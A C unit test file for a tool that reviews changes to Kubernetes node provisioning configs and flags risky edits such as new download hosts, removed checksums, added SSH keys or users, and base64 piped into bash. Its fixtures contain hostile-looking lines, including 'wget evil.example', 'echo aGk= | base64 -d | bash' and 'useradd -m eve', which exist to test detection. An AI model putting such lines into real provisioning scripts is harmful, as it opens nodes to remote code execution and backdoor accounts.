/* review: what is one change, and what is worth a second look; each note, and its absence. */
#include "dialect/dialect.h"
#include "review/review.h"

#include "asserts.h"
#include "git_open.h"

/* An OperatingSystemConfig with one file of each stage. */
static sv config(struct arena *arena, sv name, const char *text, const char *mode, const char *more)
{
	return arena_printf(arena,
	                    "apiVersion: operatingsystemmanager.k8c.io/v1alpha1\n"
	                    "kind: OperatingSystemConfig\nmetadata:\n  name: %.*s-config\n"
	                    "  annotations:\n    k8c.io/machine-deployment-revision: \"%zu\"\n"
	                    "spec:\n  provisioningConfig:\n    files:\n    - content:\n"
	                    "        inline:\n          data: |\n            # of %.*s\n"
	                    "            %s\n      path: /opt/bin/setup\n      permissions: %s\n%s",
	                    SV_ARG(name), strlen(text), SV_ARG(name), text, mode, more);
}

static struct review_unit unit_of(struct arena *arena, size_t place, sv before, sv after)
{
	size_t count;
	struct review_file *file = ARENA_NEW(arena, struct review_file);

	*file = (struct review_file){SV("c/management/x.yaml"), before, after, true, false};
	return (struct review_unit){.dialect = dialects(&count)[0],
	                            .cluster = SV("c"),
	                            .namespace = SV("kube-system"),
	                            .name = arena_printf(arena, "workers-%zu", place),
	                            .place = place,
	                            .files = file,
	                            .file_count = 1};
}

/* Units of one cluster, all changed, reviewed. */
static struct report_summary reviewed(struct arena *arena, const struct review_unit *units,
                                      size_t count)
{
	struct report_summary summary = {.unit_kind = SV("MachineDeployment")};
	struct review *review = review_new(arena);
	size_t *places = ARENA_ARRAY(arena, size_t, count);

	for (size_t i = count; i > 0; i--)
		review_add(arena, review, &units[i - 1]);
	for (size_t i = 0; i < count; i++) {
		places[i] = i;
		VEC_PUSH(arena, &summary.units,
		         (struct report_unit){.cluster = units[i].cluster,
		                              .namespace = units[i].namespace,
		                              .name = units[i].name,
		                              .change = REPORT_CHANGED,
		                              .class = REPORT_CLASS_NEW_NODES});
	}
	review_finish(arena, review, places, &summary);
	review_free(review);
	return summary;
}

static struct report_summary change(struct arena *arena, sv before, sv after)
{
	struct review_unit unit = unit_of(arena, 0, before, after);

	return reviewed(arena, &unit, 1);
}

static void groups_what_is_alike(void **state)
{
	(void)state;
	ARENA_AUTO arena = arena_new(ARENA_PLAIN);
	struct review_unit units[4];

	for (size_t i = 0; i < 4; i++) {
		sv name = arena_printf(arena, "workers-%zu", i);

		units[i] =
		    unit_of(arena, i, config(arena, name, "KUBE_VERSION='v1.31.4'", "755", ""),
		            config(arena, name,
		                   i == 3 ? "KUBE_VERSION='v1.33.10'" : "KUBE_VERSION='v1.32.1'",
		                   "755", ""));
	}
	struct report_summary summary = reviewed(arena, units, 4);

	assert_int_equal(summary.groups.count, 2);
	assert_int_equal(summary.notes.count, 0);
	const struct report_group *group = &summary.groups.items[0];
	assert_int_equal(group->unit_count, 3);
	assert_int_equal(group->cluster_count, 1);
	assert_int_equal(group->units[0], 0);
	assert_int_equal(group->units[2], 2);
	assert_int_equal(group->field_count, 1);
	assert_sv(group->fields[0].name, "kubelet");
	assert_sv(group->fields[0].before, "1.31.4");
	assert_sv(group->fields[0].after, "1.32.1");
	assert_true(sv_contains(group->diff, SV("# of <name>\n")));
	assert_true(sv_contains(group->diff, SV("+            KUBE_VERSION='v1.32.1'\n")));
	/* The only one of its kind has its own name. */
	assert_true(sv_contains(summary.groups.items[1].diff, SV("# of workers-3\n")));
}

/* Only the text around the line differs, and a name that is a word of it: one fact, one group. */
static void groups_one_fact_in_other_text(void **state)
{
	(void)state;
	ARENA_AUTO arena = arena_new(ARENA_PLAIN);
	static const char *const texts[][2] = {
	    {"KUBE_VERSION='v1.31.4' # kube", "KUBE_VERSION='v1.32.1' # kube"},
	    {"KUBE_VERSION='v1.31.4' # kube", "KUBE_VERSION='v1.32.1' # kube"},
	    {"kube_version=v1.31.4", "kube_version=v1.32.1"},
	    {"KUBE_VERSION='v1.31.4'; rm /opt/v1.31.4", "KUBE_VERSION='v1.32.1'; rm /opt/v1.32.1"},
	};
	struct review_unit units[COUNT_OF(texts)];

	for (size_t i = 0; i < COUNT_OF(texts); i++) {
		sv name = i == 1 ? SV("kube") : arena_printf(arena, "workers-%zu", i);
		const char *more = i == 2 ? "    other: text\n" : "";

		units[i] = unit_of(arena, i, config(arena, name, texts[i][0], "755", more),
		                   config(arena, name, texts[i][1], "755", more));
		units[i].name = name;
	}
	struct report_summary summary = reviewed(arena, units, 4);

	assert_int_equal(summary.groups.count, 1);
	const struct report_group *group = &summary.groups.items[0];
	assert_int_equal(group->unit_count, 4);
	assert_int_equal(group->field_count, 1);
	assert_sv(group->fields[0].name, "kubelet");
	/* Each line that changes is there, that of the pool named kube once. */
	assert_true(sv_contains(group->diff, SV("+            kube_version=v1.32.1\n")));
	assert_true(sv_contains(group->diff, SV("rm /opt/v1.32.1\n")));
	sv before;
	sv after;
	assert_true(sv_cut(group->diff, SV("+            KUBE_VERSION='v1.32.1' # kube\n"), &before,
	                   &after));
	assert_false(sv_contains(after, SV("+            KUBE_VERSION='v1.32.1' # kube\n")));
}

/* What changes beside a fact is named, and no group of units without it hides it. */
static void names_files_beside_facts(void **state)
{
	(void)state;
	ARENA_AUTO arena = arena_new(ARENA_PLAIN);
	struct review_unit units[2];

	for (size_t i = 0; i < 2; i++) {
		sv name = arena_printf(arena, "workers-%zu", i);
		const char *more = "    - content:\n        inline:\n          data: curl x\n"
		                   "      path: /opt/more\n";

		units[i] = unit_of(
		    arena, i, config(arena, name, "KUBE_VERSION='v1.31.4'", "755", ""),
		    config(arena, name, "KUBE_VERSION='v1.32.1'", "755", i == 1 ? more : ""));
	}
	struct report_summary summary = reviewed(arena, units, 2);

	assert_int_equal(summary.groups.count, 2);
	assert_int_equal(summary.groups.items[0].field_count, 1);
	assert_int_equal(summary.groups.items[1].field_count, 2);
	assert_sv(summary.groups.items[1].fields[0].name, "kubelet");
	assert_sv(summary.groups.items[1].fields[1].name, "/opt/more added");
}

/* The old value elsewhere, a downgrade of one of two, another line: no fact tells of it. */
static void tells_no_more_than_facts(void **state)
{
	(void)state;
	static const struct {
		const char *before;
		const char *after;
		size_t fields;
	} rows[] = {
	    {"KUBE_VERSION=v1.31.4; get 1.31.4", "KUBE_VERSION=v1.32.1; get 1.32.1", 1},
	    {"KUBE_VERSION=v1.31.4\n            get 1.31.4",
	     "KUBE_VERSION=v1.32.1\n            get 1.32.1", 1},
	    {"KUBE_VERSION=v1.31.4\n            get 1.32.1",
	     "KUBE_VERSION=v1.32.1\n            get 1.31.4", 2},
	    {"KUBE_VERSION=v1.31.4\n            get 1.31.40",
	     "KUBE_VERSION=v1.32.1\n            get 1.32.10", 2},
	    {"KUBE_VERSION=v1.31.4\n            a\n            b",
	     "KUBE_VERSION=v1.32.1\n            b\n            a", 2},
	};

	for (size_t i = 0; i < COUNT_OF(rows); i++) {
		ARENA_AUTO arena = arena_new(ARENA_PLAIN);
		struct report_summary summary =
		    change(arena, config(arena, SV("workers-0"), rows[i].before, "755", ""),
		           config(arena, SV("workers-0"), rows[i].after, "755", ""));

		assert_int_equal(summary.groups.count, 1);
		assert_int_equal(summary.groups.items[0].field_count, rows[i].fields);
	}
}

/* A secret with a new value is named. */
static void names_secrets(void **state)
{
	(void)state;
	ARENA_AUTO arena = arena_new(ARENA_PLAIN);
	struct report_summary token = change(
	    arena,
	    config(arena, SV("workers-0"), "t <sealed:derived/a:token#0011223344>", "755", ""),
	    config(arena, SV("workers-0"), "t <sealed:derived/a:token#ff11223344>", "700", ""));
	struct report_summary other =
	    change(arena, config(arena, SV("workers-0"), "p <sealed:a/b:pw#0011223344>", "755", ""),
	           config(arena, SV("workers-0"), "q <sealed:a/b:pw#ff11223344>", "755", ""));
	struct report_summary named =
	    change(arena, config(arena, SV("workers-0"), "p <sealed:a/b:pw#0011223344>", "755", ""),
	           config(arena, SV("workers-0"), "p <sealed:a/b:pw#ff11223344>", "755", ""));

	assert_sv(token.groups.items[0].fields[0].name, "bootstrap token changed");
	assert_sv(token.groups.items[0].fields[1].name, "mode of /opt/bin/setup changed");
	assert_true(sv_contains(other.groups.items[0].diff, SV("+            q <sealed:a/b")));
	assert_sv(named.groups.items[0].fields[0].name, "secret a/b:pw changed");
}

/* A name is replaced, but what is shown says so: nothing hides behind another unit's text. */
static void shows_what_differs_by_name(void **state)
{
	(void)state;
	ARENA_AUTO arena = arena_new(ARENA_PLAIN);
	struct review_unit units[2];

	for (size_t i = 0; i < 2; i++) {
		sv name = arena_printf(arena, "workers-%zu", i);

		units[i] = unit_of(
		    arena, i, config(arena, name, "true", "755", ""),
		    config(arena, name,
		           arena_cstr(arena,
		                      arena_printf(arena, "curl https://workers-%zu.example/", i)),
		           "755", ""));
	}
	struct report_summary summary = reviewed(arena, units, 2);

	assert_int_equal(summary.groups.count, 1);
	assert_true(sv_contains(summary.groups.items[0].diff, SV("curl https://<name>.example/")));
	assert_int_equal(summary.notes.count, 1);
	assert_sv(summary.notes.items[0].text, "<name>.example, in /opt/bin/setup");
	assert_int_equal(summary.notes.items[0].unit_count, 2);
}

/* A line of a file is shown, and tells units apart, even if it looks like a part that is left out.
 */
static void shows_lines_of_files(void **state)
{
	static const char *const texts[][2] = {
	    {"k8c.io/mdannotations-hash: x; wget evil.example", "k8c.io/mdannotations-hash: x"},
	    {"k8c.io/machine-deployment-revision: 1", "k8c.io/machine-deployment-revision: 2"},
	    {"npm i a/b#c0ffee0>/dev/null # <sealed:x>",
	     "npm i a/b#c0ffee1>/dev/null # <sealed:x>"},
	};

	(void)state;
	ARENA_AUTO arena = arena_new(ARENA_PLAIN);
	for (size_t i = 0; i < COUNT_OF(texts); i++) {
		struct review_unit units[2];

		for (size_t j = 0; j < 2; j++) {
			sv name = arena_printf(arena, "workers-%zu", j);

			units[j] = unit_of(arena, j, config(arena, name, "true", "755", ""),
			                   config(arena, name, texts[i][j], "755", ""));
		}
		struct report_summary summary = reviewed(arena, units, 2);

		assert_int_equal(summary.groups.count, 2);
		for (size_t j = 0; j < 2; j++)
			assert_true(
			    sv_contains(summary.groups.items[j].diff,
			                arena_printf(arena, "\n+            %s\n", texts[i][j])));
	}
}

struct note_case {
	const char *title; /* null: none */
	const char *before[3];
	const char *after[3]; /* text, mode, what follows */
};

#define DIGEST "b98f74a0f8522f0a83867178729c1aa70f2158f90c45a2ca8fa791db1c76b303"
#define UNITS  "    units:\n    - name: a.service\n      enable: "
#define KEYS   "    userSSHKeys:\n    - ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA a@b\n"

static void notes(void **state)
{
	static const struct note_case cases[] = {
	    {"A new host that nodes download from",
	     {"curl https://a.example/x", "755", ""},
	     {"curl https://b.example/x", "755", ""}},
	    {NULL,
	     {"curl https://a.example/x", "755", ""},
	     {"curl https://a.example/y", "755", ""}},
	    {"A checksum gone", {"echo " DIGEST, "755", ""}, {"echo", "755", ""}},
	    {NULL, {"echo", "755", ""}, {"echo " DIGEST, "755", ""}},
	    {"A file's mode widened", {"x", "600", ""}, {"x", "644", ""}},
	    {NULL, {"x", "755", ""}, {"x", "700", ""}},
	    {"A unit disabled", {"x", "755", UNITS "true\n"}, {"x", "755", UNITS "false\n"}},
	    {NULL, {"x", "755", UNITS "false\n"}, {"x", "755", UNITS "true\n"}},
	    {"An SSH key added", {"x", "755", ""}, {"x", "755", KEYS}},
	    {NULL, {"x", "755", KEYS}, {"x", "755", ""}},
	    {"A user added", {"x", "755", ""}, {"useradd -m eve", "755", ""}},
	    {NULL, {"useradd -m eve", "755", ""}, {"x", "755", ""}},
	    {"A downgrade",
	     {"KUBE_VERSION=v1.34.2", "755", ""},
	     {"KUBE_VERSION=v1.34.1", "755", ""}},
	    {"Another major version",
	     {"containerd_version=1.7.29", "755", ""},
	     {"containerd_version=2.2.0", "755", ""}},
	    {"A downgrade",
	     {"containerd_version=2.2.0", "755", ""},
	     {"containerd_version=1.7.29", "755", ""}},
	    {NULL,
	     {"apt install containerd.io=2.2*", "755", ""},
	     {"apt install containerd.io=2.2.1", "755", ""}},
	    {NULL,
	     {"containerd_version=2.1.9", "755", ""},
	     {"containerd_version=2.10.0", "755", ""}},
	    {"A shell runs what another command prints",
	     {"x", "755", ""},
	     {"echo aGk= | base64 -d | bash", "755", ""}},
	    {NULL, {"x | bash", "755", ""}, {"y\n            x | bash", "755", ""}},
	    {NULL, {"x", "755", ""}, {"x | shasum", "755", ""}},
	    {"A source that is not verified", {"x", "755", ""}, {"curl -k x", "755", ""}},
	    {"A source that is not verified", {"x", "755", ""}, {"skip_verify = true", "755", ""}},
	    {NULL, {"curl -k x", "755", ""}, {"x", "755", ""}},
	    {"A source without TLS",
	     {"curl https://a.example/x", "755", ""},
	     {"curl http://a.example/x", "755", ""}},
	    {NULL,
	     {"curl https://127.0.0.1:9/x", "755", ""},
	     {"curl http://127.0.0.1:9/x", "755", ""}},
	};

	(void)state;
	ARENA_AUTO arena = arena_new(ARENA_PLAIN);
	for (size_t i = 0; i < COUNT_OF(cases); i++) {
		const struct note_case *c = &cases[i];
		struct report_summary summary =
		    change(arena, config(arena, SV("a"), c->before[0], c->before[1], c->before[2]),
		           config(arena, SV("a"), c->after[0], c->after[1], c->after[2]));

		assert_int_equal(summary.notes.count, c->title ? 1 : 0);
		if (c->title)
			assert_sv(report_note_title(arena, &summary, &summary.notes.items[0]),
			          c->title);
	}
}

static sv role(struct arena *arena, const char *verbs, const char *names)
{
	return arena_printf(arena,
	                    "apiVersion: rbac.authorization.k8s.io/v1\nkind: Role\nmetadata:\n"
	                    "  name: r\n  namespace: n\nrules:\n- apiGroups: [\"\"]\n"
	                    "  resources: [secrets]\n  verbs: %s\n%s",
	                    verbs, names);
}

/*
 * Of very many files, units, keys, users and values each is looked up, not searched for: what is
 * committed may be anything, and reviewing it must end.
 */
static void notes_of_many(void **state)
{
	enum { MANY = 15 * 1000 };

	(void)state;
	ARENA_AUTO arena = arena_new(ARENA_PLAIN);
	struct buf text = buf_in(arena);
	struct buf files = buf_in(arena);
	struct buf units = buf_in(arena);
	struct buf keys = buf_in(arena);

	for (int i = 0; i < MANY; i++) {
		buf_printf(&text, "            --f%d=%d\n            useradd u%d\n", i, i, i);
		buf_printf(&files, "    - {path: /%d, permissions: 600}\n", i);
		buf_printf(&units, "    - {name: a%d, mask: true}\n", i);
		buf_printf(&keys, "    - k%d\n", i);
	}
	sv many =
	    arena_printf(arena,
	                 "kind: OperatingSystemConfig\nspec:\n  bootstrapConfig:\n    files:\n"
	                 "    - path: /kubelet.service\n      content:\n        inline:\n"
	                 "          data: |\n%.*s%.*s    units:\n%.*s    userSSHKeys:\n%.*s",
	                 SV_ARG(buf_sv(&text)), SV_ARG(buf_sv(&files)), SV_ARG(buf_sv(&units)),
	                 SV_ARG(buf_sv(&keys)));
	struct report_summary summary =
	    change(arena, many, ARENA_CONCAT(arena, many, SV("    - another\n")));
	assert_int_equal(summary.notes.count, 1);
	assert_sv(summary.notes.items[0].text, "another");
}

static sv binding(struct arena *arena, const char *users)
{
	return arena_printf(
	    arena,
	    "apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata:\n"
	    "  name: r\n  namespace: n\nsubjects:\n%s",
	    users);
}

static void notes_of_subjects(void **state)
{
	static const char one[] = "- {kind: User, name: a}\n";
	static const char other[] = "- {kind: User, name: b}\n";
	static const char both[] = "- {kind: User, name: a}\n- {kind: User, name: b}\n";
	static const char others[] = "- {kind: User, name: b}\n- {kind: User, name: c}\n";
	static const char token[] = "- {kind: User, name: 'system:bootstrap:abcdef'}\n";
	static const char tokens[] = "- {kind: User, name: 'system:bootstrap:ghijkl'}\n"
	                             "- {kind: User, name: 'system:bootstrap:mnopqr'}\n";
	static const char group[] = "- {kind: User, name: 'system:bootstrap:abcdef'}\n"
	                            "- {kind: Group, name: 'system:bootstrap:mnopqr'}\n";

	(void)state;
	ARENA_AUTO arena = arena_new(ARENA_PLAIN);
	struct report_summary more = change(arena, binding(arena, one), binding(arena, both));
	struct report_summary less = change(arena, binding(arena, both), binding(arena, one));
	struct report_summary moved = change(arena, binding(arena, one), binding(arena, other));
	struct report_summary hidden = change(arena, binding(arena, one), binding(arena, others));

	assert_int_equal(more.notes.count, 1);
	assert_sv(report_note_title(arena, &more, &more.notes.items[0]), "RBAC widened");
	assert_int_equal(less.notes.count, 0);
	assert_int_equal(moved.notes.count, 1);
	assert_sv(report_note_title(arena, &moved, &moved.notes.items[0]), "RBAC changed");
	assert_int_equal(hidden.notes.count, 1);
	assert_sv(report_note_title(arena, &hidden, &hidden.notes.items[0]), "RBAC widened");
	/* The rotation of a token is no alarm. */
	struct report_summary rotated =
	    change(arena, binding(arena, token), binding(arena, tokens));
	struct report_summary widened = change(arena, binding(arena, token), binding(arena, group));
	assert_int_equal(rotated.notes.count, 0);
	assert_true(sv_contains(rotated.groups.items[0].diff, SV("system:bootstrap:...")));
	assert_int_equal(widened.notes.count, 1);
}

static void notes_of_rbac(void **state)
{
	static const char one[] = "  resourceNames: [a]\n";

	(void)state;
	ARENA_AUTO arena = arena_new(ARENA_PLAIN);
	struct report_summary more =
	    change(arena, role(arena, "[get]", one), role(arena, "[get, list]", one));
	struct report_summary any =
	    change(arena, role(arena, "[get]", one), role(arena, "[get]", ""));
	struct report_summary less =
	    change(arena, role(arena, "[get, list]", one), role(arena, "[get]", one));

	assert_int_equal(more.notes.count, 1);
	assert_sv(report_note_title(arena, &more, &more.notes.items[0]), "RBAC widened");
	assert_int_equal(any.notes.count, 1);
	assert_int_equal(less.notes.count, 0);
}

static void notes_of_the_whole(void **state)
{
	(void)state;
	ARENA_AUTO arena = arena_new(ARENA_PLAIN);
	struct report_summary summary = {.unit_kind = SV("MachineDeployment")};
	struct review *review = review_new(arena);

	VEC_PUSH(arena, &summary.units,
	         (struct report_unit){
	             .change = REPORT_CHANGED, .bootstrap_bytes = 95, .bootstrap_limit = 100});
	VEC_PUSH(arena, &summary.units,
	         (struct report_unit){
	             .change = REPORT_CHANGED, .bootstrap_bytes = 80, .bootstrap_limit = 100});
	VEC_PUSH(arena, &summary.recipients, ((struct report_recipients){.cluster = SV("prod")}));
	review_finish(arena, review, NULL, &summary);
	review_free(review);
	assert_int_equal(summary.notes.count, 2);
	assert_sv(report_note_title(arena, &summary, &summary.notes.items[0]),
	          "Recipients changed");
	assert_sv(summary.notes.items[0].text, "cluster prod is sealed to others than before");
	assert_sv(summary.notes.items[1].text, "up to 95 %");
	assert_int_equal(summary.notes.items[1].unit_count, 1);
}

/* Kubernetes supports kubelets up to three minor versions older than their control plane. */
static void notes_of_versions(void **state)
{
	static const struct {
		const char *kubelet;
		const char *title; /* null: none */
	} cases[] = {
	    {"1.34.2", NULL},
	    {"1.31.9", NULL},
	    {"1.35.0", "A kubelet newer than its control plane"},
	    {"1.30.4", "A kubelet too old for its control plane"},
	};

	(void)state;
	ARENA_AUTO arena = arena_new(ARENA_PLAIN);
	for (size_t i = 0; i < COUNT_OF(cases); i++) {
		struct report_summary summary = {.unit_kind = SV("MachineDeployment")};
		struct review *review = review_new(arena);

		VEC_PUSH(arena, &summary.units,
		         ((struct report_unit){.change = REPORT_CHANGED,
		                               .class = REPORT_CLASS_ROLL,
		                               .replicas = 2,
		                               .kubelet_version = sv_from_cstr(cases[i].kubelet),
		                               .control_plane = SV("1.34.2")}));
		review_finish(arena, review, NULL, &summary);
		review_free(review);
		assert_int_equal(summary.notes.count, cases[i].title ? 1 : 0);
		if (cases[i].title)
			assert_sv(report_note_title(arena, &summary, &summary.notes.items[0]),
			          cases[i].title);
	}
}

/* Stops a hand: the removed unit, the recipients. Then the new one, which is routine. */
static void facts_are_sorted(void **state)
{
	(void)state;
	ARENA_AUTO arena = arena_new(ARENA_PLAIN);
	struct report_summary summary = {.unit_kind = SV("MachineDeployment")};
	struct review *review = review_new(arena);

	for (int i = 0; i < 6; i++)
		VEC_PUSH(arena, &summary.units,
		         ((struct report_unit){.cluster = SV("a"),
		                               .namespace = SV("n"),
		                               .name = arena_printf(arena, "new-%d", i),
		                               .kind = SV("MachineDeployment"),
		                               .change = REPORT_ADDED,
		                               .class = REPORT_CLASS_ADD,
		                               .replicas = 2}));
	VEC_PUSH(arena, &summary.units,
	         ((struct report_unit){.cluster = SV("b"),
	                               .namespace = SV("n"),
	                               .name = SV("old"),
	                               .kind = SV("MachineDeployment"),
	                               .source = SV("b/old.yaml"),
	                               .change = REPORT_REMOVED,
	                               .class = REPORT_CLASS_REMOVE,
	                               .replicas = 3}));
	VEC_PUSH(arena, &summary.units,
	         ((struct report_unit){.cluster = SV("b"),
	                               .namespace = SV("n"),
	                               .name = SV("fewer"),
	                               .kind = SV("MachineDeployment"),
	                               .change = REPORT_CHANGED,
	                               .class = REPORT_CLASS_SCALE,
	                               .replicas = 1,
	                               .scale = {true, 3, 1, 2, 0}}));
	VEC_PUSH(arena, &summary.recipients, ((struct report_recipients){.cluster = SV("b")}));
	review_finish(arena, review, NULL, &summary);
	review_free(review);
	assert_int_equal(summary.facts.count, 4);
	const struct report_fact *facts = summary.facts.items;
	assert_string_equal(facts[0].kind, "removed");
	assert_sv(facts[0].headline, "MachineDeployment removed: an applier that prunes deletes it "
	                             "and its 3 machines");
	assert_sv(facts[0].where[0], "b/n/old");
	assert_sv(facts[0].path, "b/old.yaml");
	assert_string_equal(facts[1].kind, "recipients");
	assert_int_equal(facts[1].cluster_count, 1);
	assert_sv(facts[1].where[0], "b");
	assert_string_equal(facts[2].kind, "scale");
	assert_int_equal(facts[2].severity, REPORT_FACT_STOP);
	assert_string_equal(facts[3].kind, "added");
	assert_int_equal(facts[3].severity, REPORT_FACT_ROUTINE);
	assert_int_equal(facts[3].unit_count, 6);
	assert_int_equal(facts[3].where_count, 1); /* more than five: an example */
	assert_int_equal(facts[3].cluster_count, 1);
}

/* ---- more than can be shown --------------------------------------------------------------- */

enum { MANY = 2120, STEP = 7 };

/*
 * A file of a little more than is kept of a change, of which no other has the first line: no two
 * units are alike. Few long words cost less to read than many short ones.
 */
static sv long_text(struct arena *arena, size_t number)
{
	struct buf buf = buf_in(arena);

	buf_printf(&buf, "a: |\n  %zu\n", number);
	for (size_t i = 0; i < 17; i++) {
		BUF_ADD_LIT(&buf, "  ");
		buf_add_repeat(&buf, 'x', 1000);
		buf_add_char(&buf, '\n');
	}
	return buf_sv(&buf);
}

/* Returns the number of groups that are shown with their difference: the first ones. */
static size_t count_shown(struct arena *arena, size_t step)
{
	struct report_summary summary = {.unit_kind = SV("MachineDeployment")};
	ARENA_AUTO scratch = arena_new(ARENA_PLAIN);
	struct review *review = review_new(arena);
	size_t *places = ARENA_ARRAY(arena, size_t, MANY);
	size_t shown = 0;

	for (size_t i = 0; i < MANY; i++) {
		size_t place = i * step % MANY;
		struct review_unit unit =
		    unit_of(scratch, place, SV("a: b\n"), long_text(scratch, place));

		review_add(scratch, review, &unit);
		arena_reset(scratch);
	}
	for (size_t i = 0; i < MANY; i++) {
		places[i] = i;
		VEC_PUSH(arena, &summary.units, (struct report_unit){.change = REPORT_CHANGED});
	}
	review_finish(arena, review, places, &summary);
	review_free(review);
	assert_int_equal(summary.groups.count, MANY);
	while (shown < MANY && summary.groups.items[shown].diff.len > 0) {
		assert_true(sv_contains(summary.groups.items[shown].diff,
		                        arena_printf(arena, "\n+  %zu\n", shown)));
		shown++;
	}
	for (size_t i = shown; i < MANY; i++)
		assert_int_equal(summary.groups.items[i].diff.len, 0);
	return shown;
}

/* Which changes are shown must not depend on the order in which threads review the units. */
static void shows_the_first_changes(void **state)
{
	(void)state;
	ARENA_AUTO arena = arena_new(ARENA_PLAIN);
	size_t in_order = count_shown(arena, 1);

	assert_true(in_order > 1000 && in_order < MANY);
	/* In steps that meet each unit once, forwards and back. */
	assert_int_equal(count_shown(arena, STEP), in_order);
}

/* What is committed may be anything. */
static void takes_any_text(void **state)
{
	static const char *const texts[] = {"",    "a", "- a", "{", "spec: 1", "spec: {files: 1}",
	                                    "\xff"};

	(void)state;
	ARENA_AUTO arena = arena_new(ARENA_PLAIN);
	for (size_t i = 0; i < COUNT_OF(texts); i++) {
		sv good = config(arena, SV("a"), "x", "755", "");

		(void)change(arena, sv_from_cstr(texts[i]), good);
		(void)change(arena, good, sv_from_cstr(texts[i]));
	}
}

UNIT_TESTS(review)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(groups_what_is_alike),
	    cmocka_unit_test(groups_one_fact_in_other_text),
	    cmocka_unit_test(names_files_beside_facts),
	    cmocka_unit_test(tells_no_more_than_facts),
	    cmocka_unit_test(names_secrets),
	    cmocka_unit_test(shows_what_differs_by_name),
	    cmocka_unit_test(shows_lines_of_files),
	    cmocka_unit_test(notes),
	    cmocka_unit_test(notes_of_many),
	    cmocka_unit_test(notes_of_subjects),
	    cmocka_unit_test(notes_of_rbac),
	    cmocka_unit_test(notes_of_the_whole),
	    cmocka_unit_test(notes_of_versions),
	    cmocka_unit_test(facts_are_sorted),
	    cmocka_unit_test(shows_the_first_changes),
	    cmocka_unit_test(takes_any_text),
	};

	return cmocka_run_group_tests(tests, git_open, git_close);
}
